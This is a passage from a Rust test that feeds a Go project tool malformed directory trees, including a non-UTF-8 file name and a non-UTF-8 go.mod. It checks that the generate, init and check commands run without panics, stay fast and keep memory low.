            std::fs::create_dir_all(dir.join(name)).unwrap();
            std::fs::write(dir.join(name).join("main.go"), MAIN).unwrap();
            std::fs::write(dir.join(std::ffi::OsStr::from_bytes(b"x\xff.go")), MAIN).unwrap();
        }),
    ));
    cases.push((
        "non-UTF-8 go.mod".into(),
        Box::new(|dir: &std::path::Path| {
            std::fs::write(
                dir.join("go.mod"),
                b"module example.com/\xff\xfe\n\ngo 1.22\n",
            )
            .unwrap();
        }),
    ));
    let mut slowest = std::time::Duration::ZERO;
    let mut runs = 0;
    for (what, make) in &cases {
        for args in [&["generate"][..], &["init", "--force"], &["check"]] {
            let dir = project(&base);
            std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
            std::fs::set_permissions(
                dir.path().join("sub"),
                std::fs::Permissions::from_mode(0o777),
            )
            .unwrap();
            make(dir.path());
            let (code, err, took) = run_unprivileged(args, dir.path());
            runs += 1;
            slowest = slowest.max(took);
            assert!(
                code.is_some() && code != Some(101),
                "{what} {args:?}: {code:?} {err}"
            );
            assert!(!err.contains("panicked"), "{what} {args:?}: {err}");
            assert!(
                took < std::time::Duration::from_secs(1),
                "{what} {args:?}: {took:?}"
            );
            // (`check` on a fresh project reports drift; an unreadable .gitignore
            // brings no rule, as git's own walk treats it, and is not an error.)
            if code != Some(0) && args[0] != "check" && what.starts_with("unreadable") {
                let path = what.trim_start_matches("unreadable ");
                assert!(
                    err.contains(path),
                    "{what} {args:?}: the error names no file: {err}"
                );
            }
        }
    }
    let rss = children_max_rss_mib();
    eprintln!(
        "hostile trees: {} cases × 3 commands = {runs} runs, slowest {slowest:?}, largest resident size {rss} MiB",
        cases.len()
    );
    assert!(rss < 256, "a run grew to {rss} MiB");
}
